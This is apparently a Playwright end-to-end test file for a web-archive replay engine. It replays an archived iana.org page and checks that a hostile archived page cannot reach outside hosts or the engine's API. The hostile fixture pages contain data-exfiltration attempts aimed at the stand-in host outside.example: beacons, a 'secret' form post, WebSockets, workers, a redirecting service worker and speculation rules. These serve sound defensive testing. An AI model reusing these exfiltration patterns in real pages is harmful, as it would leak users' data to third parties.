// Offline replay in Debian Chromium against the real engine in browser mode: a real capture (the iana.org home page of
// webrecorder+pywb/sample_archive/warcs/iana.warc.gz, with its stylesheets, fonts and images) replayed from the
// archive alone, and a hostile archived page (built here) that tries every way out we know of.
//
// There is no outside network here, so "nothing leaves" is proved positively: Chromium resolves every host name to a
// loopback trap that counts the connections it gets (a preconnect opens one without sending a byte), and a control
// at the end shows that an outside URL really does land in the trap.
import { chromium, expect, test, type Browser, type BrowserContext, type Page, type Request } from '@playwright/test';
import { existsSync, mkdirSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer, type Server, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { contentSecurityPolicy } from '../../src/engine/http.js';
import { REPLAY_FRAME_SANDBOX } from '../../src/shared/api-replay.js';
import type { LedgerEntry } from '../../src/shared/replay.js';
import { gzipRecords, httpResponse, responseRecord, tempDir } from '../core/warc/fixtures.js';
import { chromiumLaunchOptions, CORPUS, ROOT, startEngine, type RunningEngine } from './support.js';

const IANA = join(CORPUS, 'warc/webrecorder+pywb/sample_archive/warcs/iana.warc.gz');
const SHOTS = join(ROOT, 'test-results/replay');

test.describe.configure({ mode: 'serial' });
test.skip(!existsSync(IANA), 'needs ../shared/corpus (pywb sample WARCs)');

interface Trap {
  port: number;
  /** One line a connection: the first line of an HTTP request, 'TLS <server name>' for an https one, or '(no bytes)'
   *  for a bare connection such as a preconnect's. */
  hits: string[];
  close(): Promise<void>;
}

/** The server name of a TLS ClientHello (RFC 8446 4.1.2, RFC 6066 3), or null. */
function serverName(d: Buffer): string | null {
  try {
    let p = 5 + 4 + 2 + 32; // record header, handshake header, version, random
    p += 1 + d[p]; // session id
    p += 2 + d.readUInt16BE(p); // cipher suites
    p += 1 + d[p]; // compression methods
    const end = p + 2 + d.readUInt16BE(p);
    for (p += 2; p + 4 <= end; p += 4 + d.readUInt16BE(p + 2)) {
      if (d.readUInt16BE(p) === 0) return d.toString('latin1', p + 9, p + 9 + d.readUInt16BE(p + 7));
    }
  } catch {
    // shorter than its lengths say: no name
  }
  return null;
}

/** A TCP server that answers nothing useful and remembers every connection. */
async function startTrap(): Promise<Trap> {
  const hits: string[] = [];
  const sockets = new Set<Socket>();
  const server: Server = createServer((socket) => {
    sockets.add(socket);
    const index = hits.push('(no bytes)') - 1;
    socket.once('data', (d: Buffer) => {
      // A TLS ClientHello (record type 22) carries the host name in clear: enough to say who was called.
      hits[index] = d[0] === 22 ? `TLS ${serverName(d) ?? '(no name)'}` : d.toString('latin1').split('\r\n')[0];
      socket.end('HTTP/1.1 418 Trapped\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
    });
    socket.on('error', () => {});
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    hits,
    close: () => new Promise((resolve) => (sockets.forEach((s) => s.destroy()), server.close(() => resolve()))),
  };
}

let engine: RunningEngine;
let token: string;
let trap: Trap;
let browser: Browser;
let replayOrigin: string;
const tmp = tempDir('archivestream-replay-e2e-');

async function api<T>(method: string, args: object): Promise<T> {
  const res = await fetch(`${engine.origin}/api/${method}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify(args),
  });
  const reply = (await res.json()) as { ok: true; value: T } | { ok: false; error: { message: string } };
  if (!reply.ok) throw new Error(`${method}: ${reply.error.message}`);
  return reply.value;
}

async function collectionOf(name: string, files: string[]): Promise<void> {
  await api('collections.create', { name });
  await api('files.add', { collection: name, paths: files });
  await api('ingest.start', { collection: name, backend: 'cpu' });
  const state = () => api<{ ingest: { running: boolean }; captures: number }>('collections.get', { collection: name });
  await expect.poll(async () => (await state()).ingest.running, { timeout: 30_000 }).toBe(false);
  expect((await state()).captures).toBeGreaterThan(0);
}

async function ledgerOf(collection: string, url: string, at: string): Promise<LedgerEntry[]> {
  const { view } = await api<{ view: { entries: LedgerEntry[] } | null }>('replay.ledger', { collection, url, at });
  expect(view, `a ledger for ${url} at ${at}`).not.toBeNull();
  return view!.entries;
}

/** Every request a context's pages (frames, workers included) made, from Playwright's log. */
function requestLog(context: BrowserContext): Request[] {
  const log: Request[] = [];
  context.on('request', (r) => log.push(r));
  return log;
}

test.beforeAll(async () => {
  mkdirSync(SHOTS, { recursive: true });
  trap = await startTrap();
  // The API reads only inside allowed folders: the corpus, and the folder the hostile archive is written to.
  engine = await startEngine({ allowDirs: [CORPUS, tmp.dir] });
  token = new URL(engine.url).searchParams.get('token')!;
  ({ origin: replayOrigin } = await api<{ origin: string }>('replay.origin', {}));
  await collectionOf('iana', [IANA]);
  const base = chromiumLaunchOptions();
  browser = await chromium.launch({
    ...base,
    args: [
      ...(base.args ?? []),
      // Every name resolves to the trap; 127.0.0.1 (the engine and the replay origin) is left as it is.
      `--host-resolver-rules=MAP * 127.0.0.1:${trap.port}, EXCLUDE 127.0.0.1`,
      // Chromium's own services, which call out on about:blank too (Debian's build checks the Google account cookie
      // on accounts.google.com and asks update.googleapis.com for components): pointed at a closed loopback port,
      // so that the trap counts only what pages do.
      '--gaia-url=http://127.0.0.1:9',
      '--component-updater=url-source=http://127.0.0.1:9/',
      // And the form-field crowdsourcing a page with a form sets off (content-autofill.googleapis.com). (A switch, not
      // --disable-features, which would replace Playwright's own list of features it turns off.)
      '--autofill-server-url=http://127.0.0.1:9/',
      // And Google Cloud Messaging, which Debian's Chromium 150 checks in to (android.clients.google.com, two TLS
      // connections) about 3 s after it starts, on about:blank too.
      '--gcm-checkin-url=http://127.0.0.1:9/',
      '--gcm-registration-url=http://127.0.0.1:9/',
      '--gcm-mcs-endpoint=http://127.0.0.1:9',
    ],
  });
});

test.afterAll(async () => {
  await browser?.close();
  await engine?.stop();
  await trap?.close();
  tmp.cleanup();
});

test('the replay origin is its own: another port of 127.0.0.1, never the API origin', () => {
  expect(new URL(replayOrigin).hostname).toBe('127.0.0.1');
  expect(replayOrigin).not.toBe(engine.origin);
});

test('the iana.org home page replays with its stylesheet and images from the archive, and nothing else', async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const log = requestLog(context);
  const page = await context.newPage();
  const address = `${replayOrigin}/iana/20140126200624/http://www.iana.org/`;
  await page.goto(address, { waitUntil: 'networkidle' });

  // Styled: the archived screen.css is applied (its web font, itself from the archive), and every image has pixels.
  // (A string, as this file is type-checked without the DOM's types.)
  const styled = await page.evaluate<{ sheets: string[]; font: string; images: Array<{ src: string; width: number }> }>(`({
    sheets: [...document.styleSheets].map((s) => s.href),
    font: getComputedStyle(document.body).fontFamily,
    images: [...document.images].map((i) => ({ src: i.currentSrc, width: i.naturalWidth })),
  })`);
  expect(styled.sheets).toContain(`${replayOrigin}/iana/20140126200624/http://www.iana.org/_css/2013.1/screen.css`);
  expect(styled.font).toMatch(/Open Sans/);
  expect(styled.images.length).toBeGreaterThan(0);
  for (const img of styled.images) {
    expect(img.src.startsWith(`${replayOrigin}/iana/`), img.src).toBe(true);
    expect(img.width, img.src).toBeGreaterThan(0);
  }
  await page.screenshot({ path: join(SHOTS, 'iana-home.png'), fullPage: true });

  // Every request went to the replay origin, and was answered there (from the archive, or refused).
  expect(log.length).toBeGreaterThan(3);
  for (const r of log) {
    expect(new URL(r.url()).origin, r.url()).toBe(replayOrigin);
    expect(await r.response(), r.url()).not.toBeNull();
  }
  expect(log.filter((r) => r.url().startsWith(engine.origin))).toEqual([]);
  expect(trap.hits).toEqual([]);

  // The ledger lists each of those requests, and nothing the page did not ask for, with the record it was served
  // from. (Its other rows are what the rewriter took out: the two scripts, scripts being off.)
  const ledger = await ledgerOf('iana', 'http://www.iana.org/', '20140126200624');
  const served = ledger.filter((e) => e.how !== 'blocked');
  const archived = log.map((r) => new URL(r.url()).pathname + new URL(r.url()).search).filter((p) => p.startsWith('/iana/'));
  expect(served.map((e) => e.url).sort()).toEqual(archived.map((p) => p.replace(/^\/iana\/\d+(js_|id_)?\//, '')).sort());
  for (const e of served) {
    expect(e.record, e.url).toMatchObject({ file: IANA, offset: expect.any(Number), recordId: expect.stringMatching(/^<urn:uuid:/) });
  }
  expect(ledger.filter((e) => e.how === 'blocked').map((e) => e.blockedBy)).toEqual(['rewrite:script (scripts off)', 'rewrite:script (scripts off)']);
  const css = ledger.find((e) => e.url === 'http://www.iana.org/_css/2013.1/screen.css');
  expect(css).toMatchObject({ status: 200, record: { offset: 41238 }, captureTime: '20140126200625' });
  await context.close();
});

test('with scripts on, the iana.org page runs its own archived scripts, and still asks for nothing else', async () => {
  const context = await browser.newContext();
  const log = requestLog(context);
  const page = await context.newPage();
  await page.goto(`${replayOrigin}/iana/20140126200624js_/http://www.iana.org/`, { waitUntil: 'networkidle' });
  expect(await page.evaluate<string>('typeof window.jQuery')).toBe('function'); // jquery.js, from the archive, ran
  expect(await page.evaluate<string>('getComputedStyle(document.body).fontFamily')).toMatch(/Open Sans/);
  await page.screenshot({ path: join(SHOTS, 'iana-home-scripts-on.png'), fullPage: true });
  for (const r of log) expect(new URL(r.url()).origin, r.url()).toBe(replayOrigin);
  expect(trap.hits).toEqual([]);
  // The ledger is as exact as with scripts off: each request the page made (its scripts', through the helper's
  // rewriting, included), with its record, and nothing blocked.
  const ledger = await ledgerOf('iana', 'http://www.iana.org/', '20140126200624');
  const archived = log.map((r) => new URL(r.url())).filter((u) => u.pathname.startsWith('/iana/'))
    .map((u) => (u.pathname + u.search).replace(/^\/iana\/\d+js_\//, ''));
  expect(ledger.map((e) => e.url).sort()).toEqual(archived.sort());
  expect(ledger.filter((e) => e.how === 'blocked')).toEqual([]);
  const served = ledger.filter((e) => e.how !== 'blocked');
  expect(served.find((e) => e.url === 'http://www.iana.org/_js/2013.1/jquery.js')).toMatchObject({ status: 200, record: { file: IANA, offset: 7311 } });
  await context.close();
});

/** The hostile page's attempts, each addressed to the API (the engine's own port) or to an outside host. */
function hostilePage(apiOrigin: string): string {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile</title>
<link rel="preconnect" href="http://preconnect.example/">
<link rel="dns-prefetch" href="http://dns-prefetch.example/">
<link rel="stylesheet" href="http://hostile.example/style.css">
<script src="http://outside.example/tracker.js"></script>
</head><body>
<h1>A hostile archived page</h1>
<img src="${apiOrigin}/api/engine.info" alt="api">
<form id="post" method="post" action="http://outside.example/collect" target="sink"><input name="q" value="secret"><button id="send">Send</button></form>
<iframe name="sink" title="sink"></iframe>
<a id="out" href="http://outside.example/page">a link out</a>
<script>
  const api = ${JSON.stringify(apiOrigin)};
  // (Bodies read: Chromium keeps a fetch whose body nobody reads open, and the test waits for the network to settle.)
  fetch(api + '/api/engine.info', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }).then((r) => r.text()).catch(() => {});
  fetch('http://outside.example/beacon').then((r) => r.text()).catch(() => {});
  const x1 = new XMLHttpRequest(); x1.open('GET', api + '/api/app.paths'); x1.send();
  const x2 = new XMLHttpRequest(); x2.open('GET', 'http://outside.example/xhr'); x2.send();
  try { new WebSocket('ws://outside.example/socket'); } catch (e) {}
  try { new WebSocket('ws://' + location.host + '/socket'); } catch (e) {}
  try { new Worker('http://outside.example/worker.js'); } catch (e) {}
  try { navigator.sendBeacon('http://outside.example/sendbeacon', 'secret'); } catch (e) {}
  navigator.serviceWorker && navigator.serviceWorker.register('/sw.js').catch(() => {});
  navigator.serviceWorker && navigator.serviceWorker.register(location.pathname.replace(/[^/]*$/, '') + 'sw.js').catch(() => {});
  try { window.open('http://outside.example/popup'); } catch (e) {}
  setTimeout(() => { try { top.location.href = 'http://outside.example/top'; } catch (e) {} }, 100);
  setTimeout(() => document.getElementById('send').click(), 200);
  // Last, as it ends this document if it is let through.
  setTimeout(() => { try { location.href = 'http://outside.example/self'; } catch (e) {} }, 600);
</script>
</body></html>`;
}

/** The ways a script can make the browser load a URL that the helper rewrites, one outside URL each (its path names
 *  the way), in a page of their own. */
const DYNAMIC_SINKS = ['img-prop', 'img-inner', 'frame-inner', 'img-srcset', 'img-write', 'frame-adjacent', 'frame-xhtml',
  'img-blank-frame', 'fetch-request', 'background', 'frame-template', 'img-parsed-frame', 'img-srcdoc', 'img-srcdoc-script', 'event-source'];
const DYNAMIC_PAGE = `<!doctype html><html><head><title>dynamic</title></head><body><iframe name="parsed"></iframe><script>
  const out = 'http://outside.example/';
  const img = new Image(); img.src = out + 'img-prop'; document.body.append(img);
  const div = document.createElement('div');
  div.innerHTML = '<img src="' + out + 'img-inner"><iframe src="' + out + 'frame-inner"></iframe>';
  document.body.append(div);
  const set = document.createElement('img'); set.setAttribute('srcset', out + 'img-srcset 2x'); document.body.appendChild(set);
  document.write('<img src="' + out + 'img-write">');
  document.body.insertAdjacentHTML('beforeend', '<iframe src="' + out + 'frame-adjacent"></iframe>');
  // An element parsed as XHTML (no HTML string hook sees it): fixed as it is inserted.
  const xhtml = new DOMParser().parseFromString('<iframe xmlns="http://www.w3.org/1999/xhtml" src="' + out + 'frame-xhtml"/>', 'application/xhtml+xml');
  document.body.appendChild(xhtml.documentElement);
  // A same-origin frame written into by its parent.
  const blank = document.createElement('iframe'); document.body.append(blank);
  blank.contentDocument.write('<img src="' + out + 'img-blank-frame">'); blank.contentDocument.close();
  // A same-origin frame of the archived markup, reached by name, and a srcdoc frame whose own script builds.
  frames.parsed.document.body.innerHTML = '<img src="' + out + 'img-parsed-frame">';
  const doc = document.createElement('iframe');
  doc.srcdoc = '<img src="' + out + 'img-srcdoc"><script>const i = document.createElement("img"); i.src = "' + out + 'img-srcdoc-script"; document.body.append(i);<\\/script>';
  document.body.append(doc);
  new EventSource(out + 'event-source').onerror = (e) => e.target.close();
  fetch(new Request(out + 'fetch-request')).then((r) => r.text()).catch(() => {});
  const bg = document.createElement('div'); bg.style.cssText = 'width:10px;height:10px';
  bg.style.backgroundImage = 'url(' + out + 'background)'; document.body.append(bg);
  const tpl = document.createElement('template'); tpl.innerHTML = '<iframe src="' + out + 'frame-template"></iframe>';
  document.body.append(tpl.content.cloneNode(true));
  // Speculation rules: the browser would prefetch and prerender on its own.
  const sr = document.createElement('script'); sr.type = 'speculationrules';
  sr.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [out + 'spec-prefetch'] }], prerender: [{ source: 'list', urls: ['http://other.example/spec-prerender'] }] });
  document.head.append(sr);
  history.pushState(null, '', '/pushed?x=1');
  document.title = 'dynamic done';
</script></body></html>`;

test.describe('a hostile archived page', () => {
  const PAGE = 'http://hostile.example/';
  let context: BrowserContext;
  let log: Request[];
  let ui: HttpServer;
  let uiOrigin: string;
  const framed = (address: string) => `${uiOrigin}/?replay=${encodeURIComponent(address)}`;

  test.beforeAll(async () => {
    const html = hostilePage(engine.origin);
    const warc = tmp.write(
      'hostile.warc.gz',
      gzipRecords([
        responseRecord(PAGE, httpResponse(200, [['Content-Type', 'text/html; charset=utf-8']], html)),
        responseRecord(`${PAGE}frames`, httpResponse(200, [['Content-Type', 'text/html']],
          "<!doctype html><p>frames</p><script>const f = document.createElement('iframe'); f.src = 'http://outside.example/frame'; document.body.append(f);</script>")),
        responseRecord(`${PAGE}leaves`, httpResponse(200, [['Content-Type', 'text/html']],
          "<!doctype html><script>setTimeout(() => { location.href = '/home?from=script'; }, 50);</script>")),
        responseRecord(`${PAGE}dynamic`, httpResponse(200, [['Content-Type', 'text/html']], DYNAMIC_PAGE)),
        responseRecord(`${PAGE}sw.js`, httpResponse(200, [['Content-Type', 'text/javascript']], "self.addEventListener('fetch', (e) => e.respondWith(fetch('http://outside.example/sw')));")),
      ]),
    );
    await collectionOf('hostile', [warc]);
    // A page with the UI's own policy (frame-src: the replay origin only) that frames a replay address the way the
    // UI's replay view does, with the same sandbox.
    ui = createHttpServer((req, res) => {
      const address = new URL(req.url ?? '/', 'http://ui').searchParams.get('replay') ?? '';
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': contentSecurityPolicy(replayOrigin) });
      res.end(`<!doctype html><title>UI</title><iframe id="replay" sandbox="${REPLAY_FRAME_SANDBOX}" width="1000" height="700"
        src="${replayOrigin}${address}"></iframe>`);
    });
    await new Promise<void>((resolve) => ui.listen(0, '127.0.0.1', resolve));
    uiOrigin = `http://127.0.0.1:${(ui.address() as AddressInfo).port}`;
  });
  test.afterAll(async () => {
    await new Promise<void>((resolve) => ui?.close(() => resolve()));
  });
  test.beforeEach(async () => {
    context = await browser.newContext();
    log = requestLog(context);
  });
  test.afterEach(async () => context.close());

  /** What the test asserts after each run: nothing reached the API or the trap, and every request stayed on the
   *  replay origin. */
  function nothingLeft(besides = replayOrigin): void {
    expect(log.map((r) => r.url()).filter((u) => ![replayOrigin, besides].includes(new URL(u).origin))).toEqual([]);
    expect(log.length).toBeGreaterThan(0);
    expect(trap.hits).toEqual([]);
  }

  test('with scripts off (the default), nothing leaves, even what a user clicks', async () => {
    const page = await context.newPage();
    await page.goto(`${replayOrigin}/hostile/2024/${PAGE}`, { waitUntil: 'networkidle' });
    expect(await page.title()).toBe('Hostile'); // the script did not run
    // A user clicks the form's button and the link: both stay in the archive's address space, and the post is refused.
    const post = page.waitForResponse((r) => r.request().method() === 'POST');
    await page.locator('#send').click();
    expect((await post).status()).toBe(405);
    await Promise.all([page.waitForURL(`${replayOrigin}/hostile/**/outside.example/page`), page.locator('#out').click()]);
    await page.waitForLoadState('networkidle');
    nothingLeft();

    const ledger = await ledgerOf('hostile', PAGE, '2024');
    const blocked = ledger.filter((e) => e.how === 'blocked').map((e) => `${e.blockedBy} ${e.url}`);
    // The rewriter took out the hints and the scripts (the inline one made inert), and the ledger says so; with no
    // script running, the page tried nothing else.
    expect(blocked).toEqual(expect.arrayContaining([
      'rewrite:preconnect hint http://preconnect.example/',
      'rewrite:dns-prefetch hint http://dns-prefetch.example/',
      'rewrite:script (scripts off) http://outside.example/tracker.js',
    ]));
    expect(blocked.filter((b) => b.startsWith('csp:'))).toEqual([]);
    // The post the user sent is a page view of its own (a navigation of the frame it targets), refused there.
    expect(await ledgerOf('hostile', 'http://outside.example/collect', '2024')).toMatchObject([{ how: 'blocked', blockedBy: 'method POST not replayed' }]);
    await page.screenshot({ path: join(SHOTS, 'hostile-scripts-off.png') });
  });

  test('with scripts on, framed as the UI frames it, the policy holds every attempt to the replay origin', async () => {
    const page: Page = await context.newPage();
    const popups: string[] = [];
    context.on('page', (p) => popups.push(p.url()));
    await page.goto(framed(`/hostile/2024js_/${PAGE}`), { waitUntil: 'networkidle' });
    await page.waitForTimeout(1500); // the script's timers: top navigation, the form post, self navigation
    await page.waitForLoadState('networkidle');

    expect(popups).toEqual([]);
    expect(page.url()).toBe(framed(`/hostile/2024js_/${PAGE}`));
    // The helper's rewriting sent every fetch and XHR into the archive (the API's port included), so no request
    // went anywhere but the replay origin, not even one for the policy to stop.
    const elsewhere = log.filter((r) => !r.url().startsWith(uiOrigin) && new URL(r.url()).origin !== replayOrigin);
    expect(elsewhere.map((r) => r.url())).toEqual([]);
    expect(log.filter((r) => r.url().startsWith(replayOrigin)).length).toBeGreaterThan(3);
    expect(trap.hits).toEqual([]);
    expect(context.serviceWorkers()).toEqual([]);

    const ledger = await ledgerOf('hostile', PAGE, '2024');
    const blocked = ledger.filter((e) => e.how === 'blocked').map((e) => `${e.blockedBy} ${e.url}`);
    const replayHost = new URL(replayOrigin).host;
    expect(blocked, blocked.join('\n')).toEqual(expect.arrayContaining([
      'rewrite:preconnect hint http://preconnect.example/',
      'rewrite:dns-prefetch hint http://dns-prefetch.example/',
      `method POST not replayed ${engine.origin}/api/engine.info`,
      'helper:websocket ws://outside.example/socket',
      `helper:websocket ws://${replayHost}/socket`,
      'helper:worker http://outside.example/worker.js',
      'method POST not replayed http://outside.example/sendbeacon',
      `csp:worker-src ${replayOrigin}/sw.js`,
      `csp:worker-src ${replayOrigin}/hostile/2024js_/http://hostile.example/sw.js`,
      'helper:window.open http://outside.example/popup',
      'method POST not replayed http://outside.example/collect',
      'helper:navigation http://outside.example/self',
    ]));
    // The GETs were looked up in the archive, which has none of them.
    const missing = ledger.filter((e) => e.how === 'missing').map((e) => e.url);
    expect(missing).toEqual(expect.arrayContaining([`${engine.origin}/api/app.paths`, 'http://outside.example/beacon', 'http://outside.example/xhr']));
    await page.screenshot({ path: join(SHOTS, 'hostile-scripts-on.png') });
  });

  // frame-src alone would not do here: Chromium opens a connection to a frame's host (DNS and TCP, no bytes) before
  // the policy refuses its load. The helper script's client-side rewriting points the frame into the archive first.
  test('with scripts on, a frame made by a script for an outside host opens no connection', async () => {
    const page: Page = await context.newPage();
    await page.goto(framed(`/hostile/2024js_/${PAGE}frames`), { waitUntil: 'networkidle' });
    await page.waitForTimeout(500);
    expect(trap.hits).toEqual([]);
    nothingLeft(uiOrigin);
    expect(await ledgerOf('hostile', `${PAGE}frames`, '2024')).toContainEqual(expect.objectContaining({ url: 'http://outside.example/frame', how: 'missing', status: 404 }));
  });

  test('with scripts on, what a script builds at run time is pointed into the archive, each way it can', async () => {
    const page = await context.newPage();
    await page.goto(`${replayOrigin}/hostile/2024js_/${PAGE}dynamic`, { waitUntil: 'networkidle' });
    await page.waitForTimeout(300);
    await page.waitForLoadState('networkidle');
    nothingLeft();
    expect(await page.evaluate<string>('document.title')).toBe('dynamic done'); // the script ran to its end
    // Its speculation rules (a prefetch and a prerender of outside URLs) went in inert.
    const types = await page.evaluate<string[]>('[...document.scripts].map((s) => s.type)');
    expect(types).toContain('text/x-archived-script');
    expect(types).not.toContain('speculationrules');
    // pushState kept an archive address in the address bar (so reload stays in the archive).
    expect(page.url()).toBe(`${replayOrigin}/hostile/2024js_/http://hostile.example/pushed?x=1`);
    const ledger = await ledgerOf('hostile', `${PAGE}dynamic`, '2024');
    const asked = ledger.filter((e) => e.url.startsWith('http://outside.example/')).map((e) => `${e.how} ${e.url}`);
    expect(asked.sort()).toEqual(DYNAMIC_SINKS.map((s) => `missing http://outside.example/${s}`).sort());
    await page.screenshot({ path: join(SHOTS, 'hostile-dynamic.png') });
  });

  test('with scripts on, a script that navigates to a path of its own host lands on that page in the archive', async () => {
    const page = await context.newPage();
    await page.goto(`${replayOrigin}/hostile/2024js_/${PAGE}leaves`);
    // '/home' resolves against the replay origin in the browser; the helper takes it to the archived host's page.
    await page.waitForURL(`${replayOrigin}/hostile/2024js_/http://hostile.example/home?from=script`);
    await page.waitForLoadState('networkidle');
    nothingLeft();
    expect(log.map((r) => new URL(r.url()).pathname)).not.toContain('/home');
  });
});

test('control: an outside URL does land in the trap, so the zero counts above mean something', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto('http://trap-control.example/').catch(() => {});
  await context.close();
  expect(trap.hits).toContainEqual(expect.stringMatching(/^GET \/ HTTP\/1\.1$/));
});
